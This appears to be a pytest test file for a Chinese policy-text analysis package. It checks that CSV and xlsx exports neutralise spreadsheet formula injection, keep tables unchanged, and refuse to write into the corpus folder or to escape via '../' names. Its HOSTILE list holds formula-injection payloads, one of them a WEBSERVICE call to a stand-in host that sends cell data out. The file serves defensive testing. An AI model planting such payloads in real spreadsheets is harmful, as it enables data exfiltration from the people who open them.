"""What leaves the program (issue 26 §2, §4): text written to CSV or .xlsx can never become a
formula, the tables in memory are unchanged, and exports never land in the corpus folder."""

from __future__ import annotations

import zipfile

import pandas as pd
import pytest

import zhpolicy as zp
from zhpolicy import CorpusError
from zhpolicy.cli import main
from zhpolicy.teaching.export import FORMULA_START, excel_safe, export_figure, export_table, formula_like

from .conftest import folder_digest

HOSTILE = ["=WEBSERVICE(\"http://x.example/?\"&A1)", "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "＝1+1",
           "=HYPERLINK(\"http://x\",\"点我\")"]


def _cells(path) -> list[str]:
    return pd.read_csv(path, encoding="utf-8-sig", dtype=str, keep_default_na=False).to_numpy().ravel().tolist()


def _risky(cells) -> list[str]:
    return [c for c in cells if isinstance(c, str) and c.startswith(FORMULA_START)]


def test_excel_safe_prefixes_only_formula_like_text_and_keeps_the_table():
    table = pd.DataFrame({"text": [*HOSTILE, "正常的文字", "3-5", None], "value": [-1.5] * 8 + [2, 3.0, 4],
                          "=col": ["a"] * 11})
    before = table.copy()
    safe = excel_safe(table)
    pd.testing.assert_frame_equal(table, before)  # the table in memory is unchanged
    assert safe["text"].tolist()[:8] == ["'" + h for h in HOSTILE]
    assert safe["text"].tolist()[8:10] == ["正常的文字", "3-5"] and pd.isna(safe["text"].iloc[10])
    assert safe["value"].tolist() == table["value"].tolist()  # numbers stay numbers, negative ones too
    assert list(safe.columns) == ["text", "value", "'=col"]
    assert not any(formula_like(c) for c in safe["text"])


def test_export_table_neutralises_cells(tmp_path, monkeypatch):
    monkeypatch.setenv("ZHPOLICY_OUTPUT", str(tmp_path / "out"))
    path = export_table(pd.DataFrame({"title": HOSTILE}), "t")
    cells = _cells(path)
    assert cells == ["'" + h for h in HOSTILE] and not _risky(cells)


@pytest.fixture
def hostile_folder(tmp_path):
    folder = tmp_path / "texts"
    folder.mkdir()
    (folder / "a.txt").write_text("=WEBSERVICE(\"http://x.example/\")\n-2024年研发投入增长8.3%，达到120亿元。\n"
                                  "@推动科技创新带动产业升级，从而促进经济增长。\n", encoding="utf-8")
    (folder / "b.txt").write_text("+关于推进数字经济发展的通知\n2024年全市数字经济增加值增长8.5%，达到1200亿元。\n", encoding="utf-8")
    return folder


def test_catalog_stats_and_chains_csv_are_neutralised(hostile_folder, tmp_path, capsys):
    before = folder_digest(hostile_folder)
    for command in ("catalog", "stats", "chains"):
        target = tmp_path / f"{command}.csv"
        args = [command, str(hostile_folder), "--csv", str(target)]
        assert main(args) == 0
        cells = _cells(target)
        assert not _risky(cells), command
        assert cells or command == "chains"
    catalog = _cells(tmp_path / "catalog.csv")
    assert "'=WEBSERVICE(\"http://x.example/\")" in catalog and "'+关于推进数字经济发展的通知" in catalog
    assert folder_digest(hostile_folder) == before


def test_coding_sheet_xlsx_and_csv_hold_text_never_formulas(tmp_path):
    from zhpolicy.extraction.instruments import export_coding_sheet, read_coding_sheet

    sheet = pd.DataFrame({"unit_id": ["a-1", "a-2"], "text": ["=1+1 设立专项资金", "-加大财政支持"],
                          "coder1_type": ["", ""], "coder2_type": ["", ""]})
    before = sheet.copy()
    xlsx, csv = export_coding_sheet(sheet, folder=tmp_path)
    pd.testing.assert_frame_equal(sheet, before)
    from openpyxl import load_workbook

    with zipfile.ZipFile(xlsx) as book:
        assert "<f>" not in book.read("xl/worksheets/sheet1.xml").decode("utf-8")  # no formula anywhere
    cell = load_workbook(xlsx)["coding"]["B2"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == ("=1+1 设立专项资金", "s", True)
    assert read_coding_sheet(xlsx)["text"].tolist() == ["=1+1 设立专项资金", "-加大财政支持"]
    assert not _risky(_cells(csv))


@pytest.mark.parametrize("where", ["the corpus folder", "inside it"])
def test_exports_never_go_into_the_corpus_folder(tmp_path, monkeypatch, where):
    import matplotlib.pyplot as plt

    corpus = tmp_path / "texts"
    corpus.mkdir()
    (corpus / "a.txt").write_text("推动科技创新和产业创新深度融合。\n", encoding="utf-8")
    before = folder_digest(corpus)
    monkeypatch.setenv("ZHPOLICY_CORPUS", str(corpus))
    monkeypatch.setenv("ZHPOLICY_OUTPUT", str(corpus if where == "the corpus folder" else corpus / "results"))
    with pytest.raises(CorpusError, match="语料文件夹"):
        export_table(pd.DataFrame({"a": [1]}), "t")
    fig = plt.figure()
    with pytest.raises(CorpusError, match="ZHPOLICY_OUTPUT"):
        export_figure(fig, "f")
    plt.close(fig)
    assert folder_digest(corpus) == before and sorted(p.name for p in corpus.iterdir()) == ["a.txt"]


def test_an_export_name_cannot_leave_the_output_folder(tmp_path, monkeypatch):
    monkeypatch.setenv("ZHPOLICY_OUTPUT", str(tmp_path / "out"))
    for name in ("../escape", "sub/t", "/tmp/x", ".."):
        with pytest.raises(CorpusError):
            export_table(pd.DataFrame({"a": [1]}), name)
    assert not (tmp_path / "escape.csv").exists()


def test_the_seed_corpus_tables_are_unchanged_by_exporting(tmp_path, monkeypatch, corpus):
    monkeypatch.setenv("ZHPOLICY_OUTPUT", str(tmp_path / "out"))
    stats = zp.extract_statistics(corpus)
    before = stats.copy()
    export_table(stats, "stats")
    pd.testing.assert_frame_equal(stats, before)
